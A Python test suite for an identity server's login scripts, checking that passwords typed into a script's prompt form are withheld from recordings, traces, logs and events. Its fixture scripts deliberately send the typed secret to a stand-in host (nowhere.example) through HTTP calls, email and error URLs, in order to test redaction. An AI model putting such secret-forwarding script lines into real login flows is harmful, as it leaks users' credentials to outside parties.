"""Secrets that people type into a script's form: the script gets them, and nothing keeps them."""

import io
import json
import logging
from typing import Any

import msgspec
import pytest

from identity.administration.context import Administration
from identity.authn.login_record import LoginRecord, open_record
from identity.authn.login_recording import LoginRecordings, Recording
from identity.authn.login_trace import LoginTraces
from identity.storage.login_flows import find_login_flow
from identity.storage.recorded_logins import list_recorded_logins
from identity.telemetry import configure_logging
from tests.support.browser import Page
from tests.support.builders import PASSWORD, Client, Site, claims_of, response_parameters
from tests.support.in_process import TimedSite
from tests.support.key_manager import administrator, call
from tests.support.script_admin import script_path
from tests.support.scripts import begun, scripted, with_password

pytestmark = [pytest.mark.any_engine, pytest.mark.long]

TYPED = 'jO"h\\nny-5'
FORM = "{ title: 'New', inputs: [{ id: 'newPassword', label: 'New one' }, { id: 'why' }] }"
ASKING = f"""
var onLoginRequest = function (context) {{
  executeStep(1, {{ onSuccess: function (context) {{
    prompt('genericForm', {FORM}, {{ onSuccess: function (c) {{
      var typed = c.request.params.newPassword[0];
      Log.info('typed ' + typed);
      setCookie(c.response, 'length', '' + typed.length, {{}});
      sendEmail(c.currentKnownSubject, 'none', {{ typed: typed }});
      httpPost('https://nowhere.example/check', {{ typed: typed }}, {{ onFail: function () {{}} }});
      getUniqueUserWithClaimValues({{ 'http://wso2.org/claims/nickname': typed }}, c);
      if (c.request.params.why[0] === 'stop') fail({{ errorCode: 'stopped', errorMessage: 'not ' + typed }});
      if (c.request.params.why[0] === 'page') sendError(null, {{ statusMsg: typed, typed: typed }});
      if (c.request.params.why[0] === 'throw') throw new Error('bad ' + typed);
    }} }});
  }} }});
}};
"""


def asked(site: Site, client: Client) -> Page:
    return with_password(begun(site, client), site.jane)


def kept(site: Site, flow: str = "") -> dict[str, Any]:
    """Everything that the last sign-in left, opened; the flow by its id."""

    async def read(administration: Administration) -> dict[str, Any]:
        now, database, sealer = administration.clock.now(), administration.database, administration.sealer
        rows = await list_recorded_logins(database, site.tenant.id, since=0, application=None, after="", count=10)
        recording = await LoginRecordings(database, sealer).open(rows[-1])
        assert recording is not None
        row = await find_login_flow(database, site.tenant.id, flow or recording.flow, now)
        assert row is not None
        record = open_record(sealer, row.tenant, row.id, row.record)
        trace = await LoginTraces(sealer).find(database, site.tenant.id, recording.trace, now)
        return {"recording": recording, "flow": record, "trace": trace}

    found: dict[str, Any] = site.administer(read)
    return found


def everything(found: dict[str, Any]) -> str:
    """As one text without any escaping, however deep JSON lies within JSON."""
    text = msgspec.json.encode(found).decode()
    return text.replace("\\", "")


@pytest.mark.parametrize("why", ["work", "stop", "page", "throw"])
def test_a_secret_is_in_nothing_that_is_kept(site: Site, why: str) -> None:
    """Attack row 28: a script may hand a secret on to a mail, a call and the log; we keep it in none of them."""
    client = scripted(site, ASKING)
    page = asked(site, client).submit("prompt-submit", newPassword=TYPED, why=why)
    found = kept(site)
    flow: LoginRecord = found.pop("flow")
    assert flow.script is not None
    assert TYPED.replace("\\", "") not in everything(found | {"script": flow.script})
    recording: Recording = found["recording"]
    for journal in (recording.journal, flow.script.journal):
        answered = next(answer for answer in journal if answer.key.startswith("prompt:"))
        assert answered.value["request"]["params"] == {"newPassword": ["(withheld)"], "why": [why]}
        sent = [answer.key for answer in journal if answer.key.startswith("http:")]
        assert ['"typed": "(withheld)"' in key for key in sent] == ([True] if why == "work" else [])
    assert found["trace"]["log"] == ["typed (withheld)"]
    assert (flow.verdict, flow.denial is None) == (("done", True) if why == "work" else ("denied", False))
    if why == "stop":
        # What a script tells the application is not ours to edit.
        assert response_parameters(page)["error_description"] == f"not {TYPED}"


HANDED_ON = {
    "as an error code": "fail({ errorCode: 'bad_' + typed })",
    "in the address of an error": "fail({ errorURI: 'https://help.example/?p=' + typed })",
    "in the address of a page": "sendError('https://help.example/?p=' + typed, {})",
    "as a name": "const named = {}; named[typed] = 'x'; sendError('https://help.example/', named)",
    "as a level": "c.selectedAcr = typed",
    "as a name in a body": "const named = {}; named[typed] = 'x';"
    " httpPost('https://nowhere.example/', { named }, { onFail() {} })",
    "as a name in a mail": "sendEmail(c.currentKnownSubject, 'none', { [typed]: 'x' })",
    "at the end of a line that is cut": "Log.info('x'.repeat(490) + typed)",
    "at the end of an error that is cut": "throw new Error('x'.repeat(480) + typed)",
    "as a claim": "c.currentKnownSubject.claims[typed] = 'x'",
    "as a claim of a store": "c.currentKnownSubject.localClaims['identity/' + typed] = 'x'",
    "as the name of a mail": "sendEmail(c.currentKnownSubject, typed, {})",
    "as a host": "httpGet('https://' + typed + '.example/', { onFail() {} })",
    "in an error": "throw new Error('bad ' + typed)",
    "as JSON in a line": "Log.info({ p: typed })",
    "as JSON in JSON": "Log.info(JSON.stringify({ p: JSON.stringify(typed) }))",
    "in an address": "httpGet('https://nowhere.example/' + encodeURIComponent(typed), { onFail() {} })",
    "without blanks": "Log.info(typed.trim())",
}


@pytest.mark.parametrize("how", HANDED_ON)
def test_wherever_a_script_puts_it(timed: TimedSite, how: str) -> None:
    typed = ' hunt"er\\22 secret'
    stream, root = io.StringIO(), logging.getLogger()
    before = root.handlers[:], root.level
    configure_logging(timed.in_process.server.settings, stream)
    try:
        asked(timed, scripted(timed, passing_on(HANDED_ON[how]))).submit("prompt-submit", newPassword=typed, why="x")
    finally:
        root.handlers[:], root.level = before[0], before[1]
    found = kept(timed)
    flow: LoginRecord = found.pop("flow")
    events = [str(tuple(event)) for event in timed.events()]
    for text in (everything(found | {"script": flow.script}), stream.getvalue(), *events):
        assert "hunt" not in text


def passing_on(body: str) -> str:
    return f"""
    var onLoginRequest = function (context) {{ executeStep(1, {{ onSuccess: function (context) {{
      prompt('genericForm', {FORM}, {{ onSuccess: function (c) {{
        var typed = c.request.params.newPassword[0]; {body};
      }} }});
    }} }}); }};"""


@pytest.mark.parametrize(
    "typed", ["claim", "high", "nickname", "wso2", "script", "done", "BasicAuthenticator", "PRIMARY"]
)
def test_whoever_types_edits_nothing(site: Site, typed: str) -> None:
    """Attack row 28: a secret that is spelled like something of ours changes no claim, no reason and no person."""
    body = (
        "c.currentKnownSubject.claims['http://wso2.org/claims/website'] = 'high';"
        " c.currentKnownSubject.claims['http://wso2.org/claims/nickname'] = ''"
    )
    site.person("kim", nickname="kimmy")
    client = scripted(site, passing_on(body), id_token_claims="scopes")
    page = begun(site, client, scope="openid profile")
    page = page.submit("login-submit", username="kim", password=PASSWORD).submit(
        "prompt-submit", newPassword=typed, why="x"
    )
    claims = claims_of(site.redeem(client, response_parameters(page)["code"]).json()["id_token"])
    assert claims["website"] == "high"
    assert "nickname" not in claims
    recording: Recording = kept(site)["recording"]
    first = next(answer for answer in recording.journal if answer.key.startswith("step:"))
    assert (first.value["authenticator"], first.value["subject"]["domain"]) == ("BasicAuthenticator", "PRIMARY")
    assert {effect["kind"] for effect in recording.effects} == {"session_claim"}
    client = scripted(site, passing_on("fail({ errorCode: 'too_risky', errorMessage: 'no script done' })"))
    page = asked(site, client).submit("prompt-submit", newPassword=typed, why="x")
    assert response_parameters(page)["error_description"] == "no script done"
    assert kept(site)["trace"]["reason"] == "script"


@pytest.mark.parametrize("field", ["{ id: 'word', type: 'password' }", "{ id: 'word_secret' }", "'my.pin'"])
def test_a_secret_field_is_a_password_field(site: Site, field: str) -> None:
    source = (
        f"async function onLogin() {{ await step(1); await ask('genericForm', {{ inputs: [{field}, 'spinner'] }}); }}"
    )
    page = asked(site, scripted(site, source))
    types = {each.attributes["name"]: each.attributes["type"] for each in page.document.all("input")}
    assert types.pop("spinner") == "text"
    assert [types[name] for name in types if name != "csrf_token"] == ["password"]


def test_the_script_reads_it_in_every_run_of_the_login(site: Site) -> None:
    """It stays in the journal of a login that runs, also over steps that follow."""
    source = """
    async function onLogin(context) {
      await step(1);
      const form = await ask('genericForm', { inputs: [{ id: 'newPassword' }] });
      await ask('genericForm', { inputs: ['again'] });
      if (form.params.newPassword[0] !== 'Sesame') deny({ errorCode: 'lost' });
    }"""
    page = asked(site, scripted(site, source)).submit("prompt-submit", newPassword="Sesame")
    assert "code" in response_parameters(page.submit("prompt-submit", again="yes"))


def test_a_short_secret_spoils_nothing_else(site: Site) -> None:
    source = ASKING.replace("newPassword", "pin")
    page = asked(site, scripted(site, source)).submit("prompt-submit", pin="1", why="1")
    assert "code" in response_parameters(page)
    recording: Recording = kept(site)["recording"]
    answered = next(answer for answer in recording.journal if answer.key.startswith("prompt:"))
    assert answered.value["request"]["params"] == {"pin": ["(withheld)"], "why": ["1"]}
    assert any(json.loads(a.key.removeprefix("step:"))["step"] == 1 for a in recording.journal if "step:" in a.key)


def test_a_backtest_does_not_guess_a_secret(site: Site) -> None:
    client = scripted(site, ASKING)
    asked(site, client).submit("prompt-submit", newPassword=TYPED, why="work")
    root = administrator(site)

    def tried(script: str) -> dict[str, Any]:
        answer = call(site, root, "POST", f"{script_path(client)}/backtest", json={"script": script})
        found: dict[str, Any] = answer.json()
        return found

    unknown = tried(ASKING)
    assert unknown["counts"]["unknown"] == 1
    assert unknown["changes"][0]["detail"] == "secrets typed into prompt genericForm are not kept"
    plain = tried("var onLoginRequest = function (c) { executeStep(1); };")
    assert plain["counts"]["same"] == 1
